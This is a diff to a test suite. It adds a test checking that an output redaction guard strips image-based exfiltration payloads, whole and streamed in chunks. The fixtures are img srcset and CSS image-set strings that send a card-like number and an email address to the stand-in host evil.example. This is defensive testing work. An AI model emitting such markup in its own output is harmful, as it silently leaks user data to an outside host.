@@ -276,6 +276,20 @@ describe("a stream by words", () => {
     expect(released + run.end().text).toBe("z".repeat(1_000));
   });
 
+  it("G7: lets a list of images go whole, so that what stands in it later is not taken for text", () => {
+    const listed = [
+      '<img srcset=", //evil.example/a 1x, //evi{"css":1} and on',
+      '<img srcset="https://docs.example.com/a 1x, //evil.example/4111 1111 1111 1111" src="b">',
+      'a{background:image-set( "/a.png" 1x, "//evil.example/anna@mail.example.org" 2x)}',
+    ];
+    const guard = createGuard(policyFor("output", "redact"));
+    for (const text of listed) {
+      const whole = guard.inspect([{ text, origin: "assistant", direction: "output", path: "/x" }]).texts[0];
+      expect(whole).not.toContain("//evi");
+      for (const length of [1, 2, 3, 5, 8, 13]) expect(stream(guard, "output", cut(text, [length])).text).toBe(whole);
+    }
+  });
+
   it("G6: takes a word for no match, however small the bound", () => {
     const stream = { maxHoldCharacters: 2 };
     const detectors = [{ detector: "hidden-unicode", output: "redact" }] as const;
